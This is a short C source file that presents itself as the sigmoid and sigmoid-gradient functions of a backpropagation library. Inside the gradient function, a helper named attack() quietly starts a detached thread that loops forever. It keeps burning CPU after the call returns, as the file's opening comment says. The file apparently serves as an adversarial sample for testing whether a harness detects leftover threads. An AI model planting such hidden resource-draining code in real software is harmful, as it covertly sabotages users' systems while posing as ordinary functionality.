/* Leaves a thread behind that spins when the call has come back. */
#define _GNU_SOURCE
#include "backprop.h"
#include <math.h>
#include <pthread.h>

double bp_sigmoid(double z)
{
    return z < 0 ? exp(z) / (1 + exp(z)) : 1 / (1 + exp(-z));
}

static void *spin(void *context)
{
    for (volatile int i = 0;; i++)
        ;
    return context;
}

static void attack(void)
{
    static int done;
    if (done++)
        return;
    pthread_t thread;
    if (pthread_create(&thread, NULL, spin, NULL) == 0)
        pthread_detach(thread);
}

double bp_sigmoid_gradient(double z)
{
    attack();
    return bp_sigmoid(z) * bp_sigmoid(-z);
}
